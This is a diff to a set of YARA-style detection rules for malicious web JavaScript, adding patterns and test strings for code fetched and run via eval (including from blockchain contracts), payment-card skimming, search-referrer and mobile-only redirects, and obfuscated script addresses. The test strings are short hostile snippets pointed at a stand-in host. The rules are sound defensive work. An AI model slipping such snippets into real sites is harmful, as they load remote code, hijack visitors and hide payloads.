@@ -39,6 +39,7 @@ rule answers_run_as_script {
     must_match = "(async () => { const r = await fetch('https://inert.example.test/'); const t = await r.text(); eval(t); })();"
     must_match = "var x = new XMLHttpRequest(); x.open('GET', 'https://inert.example.test/c'); x.onload = function () { eval(x.responseText); };"
     must_match = "v.get(new XMLHttpRequest(), function (F) { window['eval'](F); });"
+    must_match = "const c = new ethers.Contract('0x0', abi, p); eval(atob(await c.get()));"
     must_match = "c.methods.get().call().then(r => eval(atob(r)));"
     must_not = "fetch('/menu.json').then(r => r.json()).then(d => show(d)); w.onmessage = function (e) { JSON.parse(e.data); }; eval('1');"
   strings:
@@ -47,13 +48,15 @@ rule answers_run_as_script {
     $listens = /new (WebSocket|EventSource)\b/
     $chain = "eth_call"
     $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(|\beval\s?\(\s?\w{1,20}\s?\)/
+    $bound = /\bnew\s(ethers|web3(\.eth)?|\w{1,8}\.eth)\.Contract\b/ nocase
+    $run = /\b(eval|new Function)\s?\(\s?(window\.)?\w{1,20}\s?[()]/
     $contract = /\.call\s?\(\s?\)\s?\.then\s?\([^;]{0,80}\b(eval|Function)\s?\(/
     $awaited = /\.text\s?\(\s?\)\s?;\s{0,8}(window\.)?eval\s?\(|\beval\s?\(\s?await\s/
     $asked = /\.open\s?\(\s?["'](GET|POST)["']\s?,\s?["'](https?:)?\/\/[^;]{1,200};[^}]{0,240}\beval\s?\(\s?(this|\w{1,10})\.response/
     $renamed = /\bwindow\s?\[\s?["']eval["']\s?\]\s?\(\s?\w{1,12}\s?\)/
     $asks = /\b(XMLHttpRequest|fetch)\b/ private
   condition:
-    ($fetched or ($socket and $listens) or ($chain and $decoded) or $contract or $awaited or $asked or ($renamed and $asks)) and filesize < 256KB
+    ($fetched or ($socket and $listens) or ($chain and ($decoded or $run)) or ($bound and $run) or $contract or $awaited or $asked or ($renamed and $asks)) and filesize < 256KB
 }
 
 rule card_fields_sent {
@@ -83,11 +86,13 @@ rule card_fields_sent {
     $socket = /new WebSocket\b[^\n]{0,600}\.send\s?\([^;\n]{0,80}(btoa\s?\(|\.value\b)/
     $fetch = /\bfetch\s?\(\s?["'](https?:)?\/\/[^;]{1,160}\bbtoa\s?\(/
     $posted = /\.(post|get)\s?\(\s?["'](https?:)?\/\/[^;\n]{1,200}\.val\s?\(/
+    $carried = /(\bfetch\s?\(|\.src\s?=)\s?["'](https?:)?\/\/[^"']{4,120}\?(\w{1,12}=)?["']\s?\+\s?(btoa\s?\(|\w{0,20}Storage\.getItem)/
+    $asked = /\.ajax\s?\(\s?\{\s?url\s?:\s?["'](https?:)?\/\/[^;]{1,300}\b(cvv|cvc|cc_?num|card_?num)[^;]{0,60}\.val\s?\(/
     $each = /\bquerySelectorAll\s?\(\s?["'](input|select|textarea|\*|form)\b/
     $place = /(onepage|checkout|place-?_?order|onestep)/ nocase
     $packed = /\b(sendBeacon|fetch|\.src\s?=)\s?\(?\s?["'](https?:)?\/\/[^;]{1,160}\bbtoa\s?\(\s?(JSON\.stringify|encodeURIComponent|\w{1,12}\s?\))/
   condition:
-    filesize < 256KB and ((($card or $digits) and any of ($image, $beacon, $socket, $fetch, $posted)) or ($each and $place and $packed))
+    filesize < 256KB and ((($card or $digits) and any of ($image, $beacon, $socket, $fetch, $posted, $carried, $asked)) or ($each and $place and $packed))
 }
 
 rule script_from_char_codes {
@@ -225,11 +230,13 @@ rule visitors_of_searches_led_away {
     must_match = "if (document.referrer.match(/google|bing|yahoo/i)) { window.location.replace('https://inert.example.test/'); }"
     must_match = "window.addEventListener('popstate', function () { location.href = 'https://inert.example.test/'; });"
     must_match = "var r = document.referrer; if (/google|bing|facebook/i.test(r)) { var s = document.createElement('script'); s.src = x; document.head.appendChild(s); }"
+    must_match = "if (!localStorage.getItem('i') && /Android|iPhone/.test(navigator.userAgent)) { location.replace('https://inert.example.test/'); }"
     must_not = "if (document.referrer.match(/google|bing/i)) { stats.count('search'); }"
     must_not = "window.addEventListener('popstate', function () { location.reload(); });"
   strings:
-    $asked = /\breferrer\b[^{}]{0,120}(google|bing|yahoo|facebook|yandex|baidu)[^{}]{0,160}\)\s?\{?[^{}]{0,200}((window|document|top|self)?\.?location(\.href)?\s?=\s?["'`](https?:)?\/\/|location\.(replace|assign)\s?\(\s?["'`](https?:)?\/\/|createElement\s?\(\s?["']script)/ nocase
+    $asked = /\breferrer\b[^{}]{0,120}(google|bing|yahoo|facebook|yandex|baidu)[^{}]{0,160}\)\s?\{?[^{}]{0,60}\{?[^{}]{0,160}((window|document|top|self)?\.?location(\.href)?\s?=\s?["'`](https?:)?\/\/|location\.(replace|assign)\s?\(\s?["'`](https?:)?\/\/|createElement\s?\(\s?["']script)/ nocase
     $back = /addEventListener\s?\(\s?["']popstate["'][^;]{0,120}(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`](https?:)?\/\//
+    $once = /(localStorage|sessionStorage|document\.cookie)\b[^{}]{0,100}(Android|iPhone|Mobi)[^{}]{0,100}\)\s?\)?\s?\{[^{}]{0,120}(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`](https?:)?\/\//
   condition:
     any of them
 }
@@ -246,19 +253,23 @@ rule address_hidden {
     reference = "https://attack.mitre.org/techniques/T1027/"
     must_match = "var u = 'aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv'; var s = document.createElement('script'); s.src = atob(u);"
     must_match = "(function (d, u) { var e = d.createElement('script'); e.src = window['at' + 'ob'](u); })(document, 'aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv');"
+    must_match = "let s = document.createElement('script'); s.setAttribute('src', atob('aHR0cHM6Ly9pbmVydC5leGFtcGxlLnRlc3Qv'));"
+    must_match = "u += String.fromCharCode(d[i] ^ k); var s = document.createElement('script'); s.src = u;"
     must_match = "s.src = 'sj.a/tset.elpmaxe.treni//:sptth'.split('').reverse().join('');"
     must_match = "<img src='' onerror=\"eval(atob(this.id))\" id='aW5lcnQ='>"
     must_not = "var link = 'aHR0cHM6Ly9leGFtcGxlLnRlc3Qv'; open(atob(link));"
     must_not = "<img src='a.png' onerror=\"this.src='b.png'\">"
   strings:
     $kept = /["'`](aHR0cHM6Ly|aHR0cDovL)[A-Za-z0-9+\/=]{8,400}["'`]/
-    $made = /createElement\s?\(\s?["']script/
+    $made = /createElement\s?\(\s?["']script|\bimport\s?\(/
+    $turned_round = /String\.fromCharCode\s?\(\s?\w{1,12}(\[\w{1,12}\])?\s?\^/
+    $set = /(setAttribute\s?\(\s?["']src["']\s?,|\bsrc\s?:|\bimport\s?\()\s?(window\.)?atob\s?\(|\batob\s?\(\s?["']aHR0c[^;]{1,400};\s?import\s?\(/
     $decoded = /\.src\s?=[^;]{0,60}(atob\s?\(|\[\s?["']a["' +t]{1,10}ob?["' +b]{0,6}\]\s?\()/
     $backwards = /\/\/:s?ptth["'`]/
     $turned = /\.reverse\s?\(\s?\)|\bstrrev\s?\(/
     $attribute = /\bon(error|load|focus|mouseover|toggle)\s?=\s?\\?["'][^"'>]{0,60}\b(eval|Function)\s?\(\s?(window\.)?atob\s?\(/ nocase
   condition:
-    ($kept and $made and $decoded) or ($backwards and $turned) or $attribute
+    ($kept and $made and any of ($decoded, $set)) or ($turned_round and $made and filesize < 16KB) or ($backwards and $turned) or $attribute
 }
 
 rule keys_sent_away {
@@ -337,7 +348,7 @@ rule links_out_of_sight {
     must_not = "<span style=\"position:absolute;left:-9999px\">Skip to content</span>"
     must_not = "<a href=\"https://example.test/casino\">Casino Club, Vienna</a>"
   strings:
-    $block = /\bstyle\s?=\s?\\?["'][^"'>]{0,80}((left|top|text-indent|margin-left)\s?:\s?-\d{3,6}(px|em)|display\s?:\s?none|height\s?:\s?[01](px)?\s?;\s?(width|overflow)[^"'>]{0,40})[^>]{0,80}>[^\n]{0,80}<a\s[^>\n]{0,60}\bhref\s?=\s?\\?["']https?:\/\/[^\n]{0,200}\b(casino|viagra|cialis|levitra|gacor|togel|judi|slot online|situs slot|payday loans?|replica watch\w{0,2}|porn|escorts?|essay writing|poker online|betting|bahis|rolex)\b/ nocase
+    $block = /\bstyle\s?=\s?\\?["'][^"'>]{0,80}((left|top|text-indent|margin-left)\s?:\s?-\d{3,6}(px|em)|display\s?:\s?none|(height|width)\s?:\s?[01](px)?\s?(;|["'])[^"'>]{0,40})[^>]{0,80}>[^\n]{0,80}<a\s[^>\n]{0,60}\bhref\s?=\s?\\?["']https?:\/\/[^\n]{0,200}\b(casino|viagra|cialis|levitra|gacor|togel|judi|slot online|situs slot|payday loans?|replica watch\w{0,2}|porn|escorts?|essay writing|poker online|betting|bahis|rolex)\b/ nocase
   condition:
     $block
 }
